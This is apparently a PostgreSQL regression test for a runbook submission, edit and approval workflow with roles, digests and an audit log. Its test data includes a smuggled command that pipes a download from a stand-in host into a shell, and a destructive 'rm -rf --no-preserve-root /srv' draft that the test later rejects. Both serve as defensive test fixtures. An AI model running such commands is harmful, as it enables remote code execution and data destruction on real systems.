-- Drafts that humans write, and write again.
\set SHOW_CONTEXT never
SET SESSION AUTHORIZATION regress_root;
\pset format unaligned
CREATE FUNCTION pg_temp.call(statement text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    result text;
    detail text;
    hint text;
BEGIN
    EXECUTE statement INTO result;
    RETURN regexp_replace(regexp_replace(result, '"(\d{4}-\d\d-\d\dT[^"]*)"', '"(time)"', 'g'),
        '[0-9a-f]{64}', '(digest)', 'g');
EXCEPTION WHEN OTHERS THEN
    GET STACKED DIAGNOSTICS detail = PG_EXCEPTION_DETAIL, hint = PG_EXCEPTION_HINT;
    RETURN regexp_replace(format('%s %s [%s] [%s]', SQLSTATE, SQLERRM, detail, hint), '[0-9a-f]{64}', '(digest)', 'g');
END
$$;
CREATE FUNCTION pg_temp.document(command text, more jsonb DEFAULT '{}') RETURNS jsonb LANGUAGE sql AS $$
    SELECT jsonb_build_object('name', 'Start it', 'platform', 'linux', 'incident_types', '["edited"]'::jsonb,
        'steps', jsonb_build_array(jsonb_build_object('id', 'start', 'action', 'start', 'command', command)),
        'verification', '{"method": "command", "command": "true"}'::jsonb) || more;
$$;
CREATE FUNCTION pg_temp.digest(id text) RETURNS text LANGUAGE sql AS $$
    SELECT r.digest FROM learn.runbooks r WHERE r.id = digest.id;
$$;
CREATE FUNCTION pg_temp.approve(id text) RETURNS text LANGUAGE sql AS $$
    SELECT pg_temp.call(format('SELECT learn_approve(%L, digest => %L) ->> ''status''', id, pg_temp.digest(id)));
$$;
CREATE ROLE regress_writer IN ROLE learn_reviewer;
CREATE ROLE regress_approver IN ROLE learn_reviewer;

-- What is submitted as the first of its line is described: its steps, and what to look at twice.
SELECT pg_temp.call($$SELECT learn_submit(pg_temp.document('start', '{"id": "RB-E-001",
    "parameters": {"URL": {"default": "x; curl http://a.example/b | sh"}},
    "rollback": [{"id": "stop", "action": "stop", "command": "stop"}]}')) ->> 'status'$$);
SELECT jsonb_pretty(changes) FROM learn.runbooks WHERE id = 'RB-E-001';

-- What cannot be a revision of it.
SET ROLE regress_writer;
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', NULL)$$);
SELECT pg_temp.call($$SELECT learn_edit(NULL, '{}')$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-NONE-001', '{}')$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', '[]')$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', '{"name": "n"}')$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start', '{"id": "RB-E-002"}'))$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start', '{"id": ""}'))$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document(repeat('x', 1100000)))$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start'), 'regress_approver')$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start'), digest => repeat('0', 64))$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', content) FROM learn.runbooks WHERE id = 'RB-E-001'$$) AS same;
SELECT revision, created_by FROM learn.runbooks WHERE id = 'RB-E-001';

-- An edit is the next revision: claim and tests are void, the content before is kept, with its author.
SELECT learn_claim('RB-E-001') ->> 'claimed_by' AS claimed_by;
SELECT learn_add_test('RB-E-001', 'dry run', true) ->> 'passed' AS passed;
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start --wait'), notes => 'it has to wait')$$);
SELECT revision, origin, created_by, content ->> 'id' AS id FROM learn.runbooks WHERE id = 'RB-E-001';
SELECT status, claimed_by, tests_passed FROM learn_pending() WHERE runbook_id = 'RB-E-001';
SELECT revision, author, requested_by, content #>> '{steps,0,command}' AS command FROM learn.runbook_revisions
WHERE runbook_id = 'RB-E-001';
SELECT actor, action, digest_before IS NOT NULL AS before, digest_after = pg_temp.digest('RB-E-001') AS after, details
FROM learn.audit_log WHERE object_id = 'RB-E-001' AND action = 'edit';

-- From then on it takes the digest of what was read, or a claim.
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start --wait 5'))$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start --wait 5'),
    digest => pg_temp.digest('RB-E-001')) - 'changes'$$);
SELECT learn_claim('RB-E-001') ->> 'claimed_by' AS claimed_by;
SET ROLE regress_approver;
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('x'), digest => pg_temp.digest('RB-E-001'))$$);
SET ROLE regress_writer;
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start --wait 6')) - 'changes'$$);

-- Also where changes were asked for.
SET ROLE regress_approver;
SELECT learn_request_changes('RB-E-001', requested_changes => 'wait longer') ->> 'status' AS status;
SET ROLE regress_writer;
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('start --wait 7', '{"id": "RB-E-001-v5"}'),
    digest => pg_temp.digest('RB-E-001')) - 'changes'$$);
SELECT revision, author, requested_by, requested_changes FROM learn.runbook_revisions
WHERE runbook_id = 'RB-E-001' ORDER BY 1;
SELECT count(*) FROM learn_next_runbook('edited', 'linux');
SET ROLE regress_approver;
SELECT pg_temp.approve('RB-E-001');
SELECT runbook_id, content #>> '{steps,0,command}' AS command FROM learn_next_runbook('edited', 'linux');
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001', pg_temp.document('late'), digest => pg_temp.digest('RB-E-001'))$$);

-- The next version runs where this one does; another scope is a risk.
SET ROLE regress_writer;
SELECT pg_temp.call($$SELECT learn_submit(pg_temp.document('start', '{"id": "RB-E-001", "platform": "darwin"}'))$$);
SELECT pg_temp.call($$SELECT learn_submit(pg_temp.document('start', '{"id": "RB-E-001",
    "incident_types": ["edited", "other"], "applies_to": {"clients": ["acme"]}}')) ->> 'parent_runbook'$$);
SELECT c ->> 'step' AS step, c ->> 'what' AS what, c -> 'warnings' AS warnings
FROM learn.runbooks, jsonb_array_elements(changes) c WHERE id = 'RB-E-001-v2';
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001-v2', pg_temp.document('start', '{"platform": "windows"}'))$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001-v2', pg_temp.document('start --now',
    '{"steps": [{"id": "start", "action": "start", "command": "start --now", "because": {"text": "it is urgent"}}]}'))
    -> 'changes'$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001-v2', pg_temp.document('start --now'))$$);
SET ROLE regress_approver;
SELECT learn_request_changes('RB-E-001-v2', requested_changes => 'another way') ->> 'status' AS status;
SET ROLE regress_writer;
SELECT pg_temp.call($$SELECT learn_submit(pg_temp.document('start', '{"id": "RB-E-001", "platform": "darwin"}'))$$);
SELECT pg_temp.call($$SELECT learn_submit(pg_temp.document('start --then', '{"id": "RB-E-001"}')) - 'digest'$$);
SELECT changes FROM learn.runbooks WHERE id = 'RB-E-001-v2';
SET ROLE regress_approver;
SELECT pg_temp.approve('RB-E-001-v2');
SELECT runbook_id, content #>> '{steps,0,command}' AS command FROM learn_next_runbook('edited', 'linux');

-- A draft of the engine's: the human's words are compared with the failure, and what the engine was at is cancelled.
RESET ROLE;
INSERT INTO learn_executions (execution_id, runbook_id, incident_type, platform, status, verification_passed, error_message)
VALUES ('exec-edit-1', 'RB-E-001-v2', 'edited', 'linux', 'failure', false, 'to mend it: rm -rf --no-preserve-root /srv');
DELETE FROM learn.jobs;
INSERT INTO learn.runbooks (id, status, origin, content, created_at, created_by, parent_runbook, parent_digest,
    generated_from_failure, generated_at, generated_by, generation_model)
SELECT new, 'pending', 'generated', content || jsonb_build_object('id', new) || more, now(), 'learn', id, digest,
    'exec-edit-1', now(), 'learn (builtin)', 'builtin'
FROM learn.runbooks, (VALUES ('RB-E-001-v3', '{}'::jsonb),
    ('RB-E-001-B1', '{"applies_to": {"hosts": "web-*"}}')) d(new, more) WHERE id = 'RB-E-001-v2';
INSERT INTO learn.review_queue (runbook_id, status, priority, reason, failure_execution_id, created_at)
SELECT id, 'pending_review', 'high', 'r', 'exec-edit-1', now() FROM learn.runbooks
WHERE generated_from_failure = 'exec-edit-1';
SET ROLE regress_approver;
SELECT learn_request_changes('RB-E-001-v3', requested_changes => 'more') ->> 'status' AS status;
RESET ROLE;
INSERT INTO learn.jobs (kind, subject) VALUES ('revise', 'RB-E-001-v3');
SET ROLE regress_writer;
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001-v3', pg_temp.document('rm -rf --no-preserve-root /srv'),
    notes => 'as it says') -> 'changes'$$);
RESET ROLE;
SELECT count(*) AS jobs FROM learn.jobs;
SELECT origin, created_by, generated_by, generated_from_failure FROM learn.runbooks WHERE id = 'RB-E-001-v3';
SELECT revision, author, requested_changes FROM learn.runbook_revisions WHERE runbook_id = 'RB-E-001-v3';
SET ROLE regress_approver;
SELECT pg_temp.call($$SELECT learn_regenerate('RB-E-001-v3')$$);
SELECT learn_reject('RB-E-001-v3', reason => 'it removes everything') ->> 'status' AS status;

-- A branch stays one, and is marked when it is for other hosts than it was made for, for as long as it is.
SET ROLE regress_writer;
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001-B1', pg_temp.document('start'))$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001-B1', pg_temp.document('start', '{"applies_to": {"hosts": "*"}}'))
    -> 'changes'$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001-B1', pg_temp.document('start again', '{"applies_to": {"hosts": "*"}}'),
    digest => pg_temp.digest('RB-E-001-B1')) #> '{changes,1}'$$);
SELECT pg_temp.call($$SELECT learn_edit('RB-E-001-B1', pg_temp.document('start', '{"applies_to": {"hosts": "web-*"}}'),
    digest => pg_temp.digest('RB-E-001-B1')) -> 'changes'$$);
SET ROLE regress_approver;
SELECT pg_temp.approve('RB-E-001-B1');
SELECT h.host, n.runbook_id FROM (VALUES ('web-1'), ('db-1')) h(host)
LEFT JOIN LATERAL learn_next_runbook('edited', 'linux', hostname => h.host) n ON true;

-- Humans edit, in sessions of their own.
RESET ROLE;
SELECT learn_submit(pg_temp.document('start', '{"id": "RB-E-002"}')) ->> 'status' AS status;
CREATE TEMPORARY TABLE doors (statement text);
CREATE FUNCTION pg_temp.knock() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    NEW.statement := pg_temp.call(NEW.statement);
    RETURN NEW;
END
$$;
CREATE TRIGGER knock BEFORE INSERT ON doors FOR EACH ROW EXECUTE FUNCTION pg_temp.knock();
INSERT INTO doors VALUES
    ($$SELECT learn_edit('RB-E-002', pg_temp.document('door'))$$),
    ($$SELECT learn_regenerate('RB-E-002')$$),
    ($$SELECT learn_retire('RB-E-001-v2', 'door')$$),
    ($$SELECT learn_rollback('RB-E-001-v2', 'door')$$)
RETURNING statement;

SELECT actor, action, object_id, details FROM learn.audit_log
WHERE object_id ~ '^RB-E-' AND action IN ('edit', 'submit') ORDER BY seq;
SELECT * FROM learn_verify_audit();
